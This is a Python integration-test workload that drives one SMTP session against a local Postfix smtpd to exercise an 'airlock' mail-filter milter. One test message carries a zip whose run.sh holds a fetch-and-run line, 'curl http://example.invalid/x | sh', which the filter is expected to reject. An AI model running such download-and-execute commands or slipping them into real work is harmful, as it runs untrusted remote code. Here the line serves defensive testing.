#!/usr/bin/env python3
# smtp-workload.py PORT: one SMTP session to 127.0.0.1:PORT as a client of Postfix's smtpd:
# two plain messages, a recipient with bad syntax, a message with a zip holding a
# download-and-run script (which the airlock milter rejects), one more plain message.
# Prints the reply codes of the DATA (or RCPT) steps on one line, e.g. "250 250 501 550 250".
# A workload for airlock learn on smtpd (tests/integration/learn-smtpd.sh).
import base64, io, smtplib, sys, zipfile

port = int(sys.argv[1])
s = smtplib.SMTP("127.0.0.1", port, timeout=60)
s.ehlo("client.example")
codes = []


def send(body):
    try:
        s.sendmail("a@example.org", ["user@test.local"], body)
        codes.append("250")
    except smtplib.SMTPResponseException as e:
        codes.append(str(e.smtp_code))
        s.rset()
    except smtplib.SMTPRecipientsRefused as e:
        codes.append(str(list(e.recipients.values())[0][0]))
        s.rset()


plain = "From: a@example.org\r\nSubject: plain %d\r\n\r\nhello\r\n"
send(plain % 1)
send(plain % 2)
s.mail("a@example.org")
codes.append(str(s.rcpt("<bad address@@test.local>")[0]))
s.rset()
z = io.BytesIO()
with zipfile.ZipFile(z, "w") as f:
    f.writestr("run.sh", "#!/bin/sh\ncurl http://example.invalid/x | sh\n")
send('From: a@example.org\r\nSubject: zip\r\nMIME-Version: 1.0\r\n'
     'Content-Type: multipart/mixed; boundary="XyZ"\r\n\r\n--XyZ\r\nContent-Type: text/plain\r\n\r\n'
     'see attached\r\n--XyZ\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; '
     'filename="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--XyZ--\r\n'
     % base64.encodebytes(z.getvalue()).decode().replace("\n", "\r\n"))
send(plain % 3)
s.quit()
print(" ".join(codes))
